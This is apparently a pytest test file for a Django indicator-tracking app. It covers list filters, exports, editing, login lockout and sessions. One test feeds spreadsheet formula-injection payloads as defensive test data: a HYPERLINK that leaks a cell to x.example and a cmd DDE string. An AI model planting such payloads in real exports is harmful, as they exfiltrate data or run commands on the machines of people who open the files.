"""The one generic object view set: list, export, detail, add/edit/delete, and the login."""

import csv
import io
import os
import subprocess
import sys
import time
from datetime import timedelta
from unittest import mock

import openpyxl
import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.contrib.messages import get_messages
from django.contrib.sessions.models import Session
from django.urls import reverse
from django.utils import timezone

from shouwei.core.choices import UnitKind
from shouwei.core.generic import MAX_PER_PAGE
from shouwei.core.models import Unit
from shouwei.indicators.models import Indicator, Observation
from tests.factories import UnitFactory


def _units(client, **params):
    response = client.get(reverse("core:unit_list"), params)
    assert response.status_code == 200
    return response


def _codes(response):
    return [u.code for u in response.context["table"].page.object_list.data]


def _export(client, url_name, fmt, **params):
    response = client.get(reverse(url_name), {**params, "export": fmt})
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    if fmt == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True).active
    return [["" if c is None else c for c in row] for row in sheet.iter_rows(values_only=True)]


# --- list ------------------------------------------------------------------------------------


def test_list_searches_names_and_codes(client_for):
    c = client_for("leader")
    assert _codes(_units(c, q="松木")) == ["hy-smjk"]
    assert _codes(_units(c, q="HY-ZBQ")) == ["hy-zbq"]


def test_list_filters_by_choice(client_for):
    codes = _codes(_units(client_for("leader"), kind=UnitKind.STREET))
    assert sorted(codes) == ["hy-gxq-hx", "hy-gxq-tms"]


def test_list_sorts_both_ways(client_for):
    c = client_for("leader")
    up = _codes(_units(c, sort="code", per_page=100))
    down = _codes(_units(c, sort="-code", per_page=100))
    assert up == sorted(up) and down == list(reversed(up))


def test_list_paginates(client_for):
    c = client_for("leader")
    first = _codes(_units(c, sort="code", per_page=5))
    second = _codes(_units(c, sort="code", per_page=5, page=2))
    assert len(first) == len(second) == 5
    assert not set(first) & set(second)


def test_per_page_is_capped(client_for):
    table = _units(client_for("leader"), per_page=100000).context["table"]
    assert table.paginator.per_page == MAX_PER_PAGE == 200


@pytest.mark.parametrize("junk", ["abc", "-5", "0", "1e9", "", "２０"])
def test_junk_per_page_falls_back_without_error(client_for, junk):
    table = _units(client_for("leader"), per_page=junk).context["table"]
    assert 1 <= table.paginator.per_page <= MAX_PER_PAGE


@pytest.mark.parametrize("params", [{"page": "abc"}, {"page": "9999"}, {"sort": "no_such"}])
def test_junk_page_or_sort_does_not_fail(client_for, params):
    _units(client_for("leader"), **params)


@pytest.mark.parametrize(
    ("url_name", "params", "field"),
    [
        ("core:unit_list", {"kind": "bogus"}, "类型"),
        ("core:unit_list", {"parent": "99999"}, "上级单位"),
        ("indicators:observation_list", {"unit": "abc"}, "单位"),
        ("indicators:observation_list", {"status": "lost"}, "状态"),
        ("indicators:target_list", {"year": "二〇二二"}, "年度"),
    ],
)
def test_invalid_filter_value_shows_an_error_and_no_rows(client_for, url_name, params, field):
    response = client_for("leader").get(reverse(url_name), params)
    assert response.status_code == 200
    page = response.content.decode()
    assert "筛选条件有误" in page and field in page
    assert response.context["table"].paginator.count == 0


# --- export -----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_contains_exactly_the_filtered_rows(client_for, fmt):
    rows = _export(client_for("leader"), "core:unit_list", fmt, kind=UnitKind.DEPARTMENT)
    header, body = rows[0], rows[1:]
    assert "代码" in header
    codes = sorted(r[header.index("代码")] for r in body)
    expected = sorted(Unit.objects.filter(kind=UnitKind.DEPARTMENT).values_list("code", flat=True))
    assert codes == expected


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_ignores_pagination(client_for, fmt):
    rows = _export(client_for("leader"), "core:unit_list", fmt, per_page=2, page=2)
    assert len(rows) - 1 == Unit.objects.count()


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_ignores_junk_paging_and_keeps_the_sort(client_for, fmt):
    rows = _export(client_for("leader"), "core:unit_list", fmt, per_page=-5, sort="-code")
    codes = [r[rows[0].index("代码")] for r in rows[1:]]
    assert codes == sorted(Unit.objects.values_list("code", flat=True), reverse=True)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize(
    "evil", ['=HYPERLINK("http://x.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "@SUM(1)"]
)
def test_export_neutralises_formulas(client_for, demo, fmt, evil):
    UnitFactory(code="evil", name=evil, parent=Unit.objects.get(code="hy-gxq"))
    rows = _export(client_for("leader"), "core:unit_list", fmt, q="evil")
    header, [row] = rows[0], rows[1:]
    cell = row[header.index("名称")]
    assert cell == "'" + evil


def test_export_keeps_negative_numbers_as_numbers(client_for, demo):
    from shouwei.indicators.choices import ObservationStatus
    from tests.factories import ObservationFactory

    ObservationFactory(
        unit=Unit.objects.get(code="hy-smjk"),
        indicator=Indicator.objects.get(code="gdp"),
        period="2022Q3",
        growth="-2.5",
        value=None,
        source="负增长样本",
        status=ObservationStatus.APPROVED,
    )
    rows = _export(client_for("leader"), "indicators:observation_list", "xlsx", q="负增长样本")
    header, [row] = rows[0], rows[1:]
    assert row[header.index("同比增长(%)")] == -2.5


# --- detail, add, edit, delete ---------------------------------------------------------------


def test_detail_shows_history_with_changed_fields(client_for, demo):
    c = client_for("admin")
    unit = Unit.objects.get(code="hy-zbq")
    response = c.post(
        reverse("core:unit_edit", args=[unit.pk]),
        {
            "code": unit.code,
            "name": "衡阳综合保税区（更名）",
            "short_name": unit.short_name,
            "kind": unit.kind,
            "parent": unit.parent_id,
            "sort_order": unit.sort_order,
        },
    )
    assert response.status_code == 302
    detail = c.get(reverse("core:unit_detail", args=[unit.pk]))
    [latest, *_rest] = detail.context["history"]
    assert latest["user"] == demo["admin"]
    assert latest["changes"] == [("名称", "衡阳综合保税区", "衡阳综合保税区（更名）")]
    page = detail.content.decode()
    assert "衡阳综合保税区（更名）" in page and "<del>衡阳综合保税区</del>" in page


def test_superuser_creates_a_unit_under_a_parent(client_for):
    parent = Unit.objects.get(code="hy-gxq")
    response = client_for("admin").post(
        reverse("core:unit_add"),
        {
            "code": "hy-gxq-new",
            "name": "新部门",
            "kind": "department",
            "parent": parent.pk,
            "sort_order": 3,
        },
    )
    assert response.status_code == 302
    assert Unit.objects.get(code="hy-gxq-new").path == "/hn/hy/hy-gxq/hy-gxq-new/"


def test_bad_unit_code_is_a_form_error(client_for):
    response = client_for("admin").post(
        reverse("core:unit_add"), {"code": "Bad Code!", "name": "x", "kind": "department"}
    )
    assert response.status_code == 400
    assert "代码" in response.content.decode()
    assert not Unit.objects.filter(name="x").exists()


def test_staff_cannot_open_the_unit_form(client_for):
    assert client_for("staff_cyfz").get(reverse("core:unit_add")).status_code == 403


def _observation_post(unit, reporting_unit=None, **extra):
    return {
        "unit": unit.pk,
        "indicator": Indicator.objects.get(code="industrial_va").pk,
        "period": "2022-07",
        "growth": "9.9",
        "reporting_unit": reporting_unit.pk if reporting_unit else "",
        "rank_basis": "",
        **extra,
    }


def test_staff_cannot_create_an_observation_for_a_unit_outside_its_scope(client_for):
    before = Observation.objects.count()
    jjhz = Unit.objects.get(code="hy-gxq-jjhz")
    response = client_for("staff_cyfz").post(
        reverse("indicators:observation_add"), _observation_post(jjhz, jjhz)
    )
    assert response.status_code == 400
    assert response.context["form"].errors
    assert Observation.objects.count() == before


def test_staff_enters_the_zones_figure_as_its_reporting_department(client_for, demo):
    # 产业发展局 reports the zone's 规模工业增加值: unit = the zone, reporting unit = itself.
    zone, cyfz = Unit.objects.get(code="hy-gxq"), Unit.objects.get(code="hy-gxq-cyfz")
    response = client_for("staff_cyfz").post(
        reverse("indicators:observation_add"), _observation_post(zone, cyfz)
    )
    assert response.status_code == 302, response.context["form"].errors
    created = Observation.objects.get(unit=zone, period="2022-07")
    assert (created.reporting_unit, created.entered_by) == (cyfz, demo["staff_cyfz"])


def test_staff_cannot_file_the_zones_figure_under_another_department(client_for):
    zone, jjhz = Unit.objects.get(code="hy-gxq"), Unit.objects.get(code="hy-gxq-jjhz")
    before = Observation.objects.count()
    response = client_for("staff_cyfz").post(
        reverse("indicators:observation_add"), _observation_post(zone, jjhz)
    )
    assert response.status_code == 400
    assert Observation.objects.count() == before


def test_observation_with_no_figure_is_a_form_error(client_for):
    cyfz = Unit.objects.get(code="hy-gxq-cyfz")
    response = client_for("staff_cyfz").post(
        reverse("indicators:observation_add"), _observation_post(cyfz, cyfz, growth="")
    )
    assert response.status_code == 400
    assert "至少填写一项" in response.content.decode()


def test_observation_with_a_bad_period_names_the_field(client_for):
    cyfz = Unit.objects.get(code="hy-gxq-cyfz")
    response = client_for("staff_cyfz").post(
        reverse("indicators:observation_add"), _observation_post(cyfz, cyfz, period="2022-13")
    )
    assert response.status_code == 400
    assert "period" in response.context["form"].errors


def test_deleting_a_unit_still_referenced_shows_a_message(client_for):
    zone = Unit.objects.get(code="hy-gxq")
    response = client_for("admin").post(reverse("core:unit_delete", args=[zone.pk]))
    assert response.status_code == 302
    assert response["Location"] == reverse("core:unit_detail", args=[zone.pk])
    messages = [str(m) for m in get_messages(response.wsgi_request)]
    assert any("不能删除" in m for m in messages)
    assert Unit.objects.filter(pk=zone.pk).exists()


def test_deleting_an_unreferenced_unit(client_for, demo):
    spare = UnitFactory(code="spare", parent=Unit.objects.get(code="hy"))
    response = client_for("admin").post(reverse("core:unit_delete", args=[spare.pk]))
    assert response["Location"] == reverse("core:unit_list")
    assert not Unit.objects.filter(code="spare").exists()


def test_delete_page_asks_before_deleting(client_for, demo):
    spare = UnitFactory(code="spare", parent=Unit.objects.get(code="hy"))
    assert client_for("admin").get(reverse("core:unit_delete", args=[spare.pk])).status_code == 200
    assert Unit.objects.filter(code="spare").exists()


# --- login, lockout, passwords, sessions -----------------------------------------------------


def test_login_page_is_in_chinese(client):
    response = client.get(reverse("login"))
    page = response.content.decode()
    assert response.status_code == 200
    for text in ("账号登录", "用户名", "密码", "登录"):
        assert text in page
    assert 'lang="zh-hans"' in page or 'lang="zh-Hans"' in page


def test_wrong_password_says_so_in_chinese(client, demo):
    response = client.post(reverse("login"), {"username": "leader", "password": "wrong"})
    assert response.status_code == 200
    assert "用户名或密码错误" in response.content.decode()


def test_five_failures_lock_the_account_even_for_the_right_password(client, db):
    user = get_user_model().objects.create_user("locked", password="right-password-123")
    for _ in range(5):
        client.post(reverse("login"), {"username": "locked", "password": "wrong"})
    response = client.post(
        reverse("login"), {"username": "locked", "password": "right-password-123"}
    )
    assert "账号已临时锁定" in response.content.decode()
    assert "_auth_user_id" not in client.session
    assert user.pk  # the account itself is untouched


def test_four_failures_do_not_lock(client, db):
    get_user_model().objects.create_user("careful", password="right-password-123")
    for _ in range(4):
        client.post(reverse("login"), {"username": "careful", "password": "wrong"})
    response = client.post(
        reverse("login"), {"username": "careful", "password": "right-password-123"}
    )
    assert response.status_code == 302
    assert client.session["_auth_user_id"]


def test_passwords_are_hashed_with_argon2(db, real_password_hashers):
    user = get_user_model().objects.create_user("hashed", password="some-password-123")
    assert user.password.startswith("argon2$")
    assert settings.PASSWORD_HASHERS[0].endswith("Argon2PasswordHasher")


def test_session_expires_after_the_idle_timeout(client, demo):
    assert settings.SESSION_COOKIE_AGE == 30 * 60
    assert settings.SHOUWEI_SESSION_SAVE_SECONDS == 60
    client.force_login(demo["leader"])
    assert client.get(reverse("core:unit_list")).status_code == 200
    session = Session.objects.get(session_key=client.session.session_key)
    remaining = session.expire_date - timezone.now()
    assert timedelta(minutes=29) < remaining <= timedelta(minutes=30)
    Session.objects.filter(pk=session.pk).update(expire_date=timezone.now() - timedelta(seconds=1))
    response = client.get(reverse("core:unit_list"))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_a_request_after_the_save_interval_extends_the_session(client, demo):
    client.force_login(demo["leader"])
    key = client.session.session_key
    soon = timezone.now() + timedelta(minutes=5)
    Session.objects.filter(pk=key).update(expire_date=soon)
    later = time.time() + 61
    with mock.patch("shouwei.core.session_expiry._now", return_value=later):
        client.get(reverse("core:unit_list"))
    assert Session.objects.get(pk=key).expire_date > soon + timedelta(minutes=20)


def test_idle_timeout_is_read_from_the_environment():
    env = {**os.environ, "SHOUWEI_SESSION_IDLE_MINUTES": "10"}
    code = "import shouwei.settings as s; print(s.SESSION_COOKIE_AGE)"
    out = subprocess.run(
        [sys.executable, "-c", code], env=env, capture_output=True, text=True, check=True
    )
    assert out.stdout.strip() == "600"


@pytest.mark.parametrize("written", ["2022H1", "2022h1", " 2022H1 "])
def test_period_filter_accepts_the_period_however_written(client_for, written):
    response = client_for("leader").get(
        reverse("indicators:observation_list"), {"period": written, "per_page": 200}
    )
    rows = response.context["table"].data.data
    assert rows and {o.period for o in rows} == {"2022H1"}


def test_period_filter_reads_a_month_written_without_zero(client_for):
    response = client_for("leader").get(
        reverse("indicators:observation_list"), {"period": "2022年5月", "per_page": 200}
    )
    assert {o.period for o in response.context["table"].data.data} == {"2022-05"}


def test_impossible_period_filter_is_an_error(client_for):
    response = client_for("leader").get(
        reverse("indicators:observation_list"), {"period": "2022-13"}
    )
    assert response.status_code == 200
    assert "月份应在 1—12 之间" in response.content.decode()
    assert response.context["table"].paginator.count == 0


def test_history_names_related_records_and_choices_not_their_keys(client_for, demo):
    c = client_for("admin")
    unit = Unit.objects.get(code="hy-zbq")
    c.post(
        reverse("core:unit_edit", args=[unit.pk]),
        {
            "code": unit.code,
            "name": unit.name,
            "short_name": unit.short_name,
            "kind": UnitKind.PARK,
            "parent": Unit.objects.get(code="hy").pk,
            "sort_order": unit.sort_order,
        },
    )
    detail = c.get(reverse("core:unit_detail", args=[unit.pk]))
    changes = detail.context["history"][0]["changes"]
    assert ("上级单位", "衡阳国家高新技术产业开发区", "衡阳市") in changes
    assert ("类型", "综合保税区", "园区") in changes


@pytest.mark.parametrize("sort", ["indicator", "-period_end", "unit", "-value", "status"])
def test_deep_pages_show_exactly_the_rows_of_a_plain_slice(client_for, monkeypatch, sort):
    """Far pages fetch their keys first and the rows after (DeepPagePaginator): the same rows,
    in the same order, as the plain ``OFFSET`` query, whatever the sort and its ties."""
    from shouwei.core.generic import DeepPagePaginator

    c = client_for("leader")
    url = reverse("indicators:observation_list")

    def pages() -> list[list[int]]:
        return [
            [
                r.record.pk
                for r in c.get(url, {"sort": sort, "page": n, "per_page": 7})
                .context["table"]
                .paginated_rows
            ]
            for n in (1, 2, 5, 9)
        ]

    monkeypatch.setattr(DeepPagePaginator, "deferred_from", 10**9)
    plain = pages()
    monkeypatch.setattr(DeepPagePaginator, "deferred_from", 0)
    deferred = pages()
    assert deferred == plain
    assert all(len(p) == 7 for p in plain)
    # Ties broken by the key: no row on two pages.
    seen = [pk for p in plain for pk in p]
    assert len(seen) == len(set(seen))


@pytest.mark.parametrize("sort", ["-period_end", "unit", "-value", "growth", "status"])
def test_pages_past_the_middle_read_from_the_end_show_the_rows_of_a_plain_slice(
    client_for, monkeypatch, settings, sort
):
    """A page in the back half is read in the reversed order and turned round
    (DeepPagePaginator.from_the_end): the same rows in the same order as ``OFFSET``, the last,
    short page included, whatever the sort, its ties and its NULLs (growth, value); with the
    count estimated (a low threshold) it counts first and still shows those rows."""
    from shouwei.core.generic import DeepPagePaginator

    c = client_for("leader")
    url = reverse("indicators:observation_list")
    total = Observation.objects.visible_to(c.get(url).wsgi_request.user).count()
    per_page = 40
    last = -(-total // per_page)
    assert total % per_page, "the last page should be short"
    numbers = list(range(last // 2, last + 1))

    def pages() -> list[list[int]]:
        out = []
        for n in numbers:
            table = c.get(url, {"sort": sort, "page": n, "per_page": per_page}).context["table"]
            assert table.page.number == n
            out.append([r.record.pk for r in table.paginated_rows])
        return out

    monkeypatch.setattr(DeepPagePaginator, "deferred_from", 10**9)
    plain = pages()
    monkeypatch.setattr(DeepPagePaginator, "deferred_from", 0)
    assert DeepPagePaginator(list(range(total)), per_page).from_the_end(last)
    reversed_ = pages()
    assert reversed_ == plain
    assert len(plain[-1]) == total % per_page
    settings.SHOUWEI_LIST_EXACT_COUNT_UP_TO = 5
    assert pages() == plain
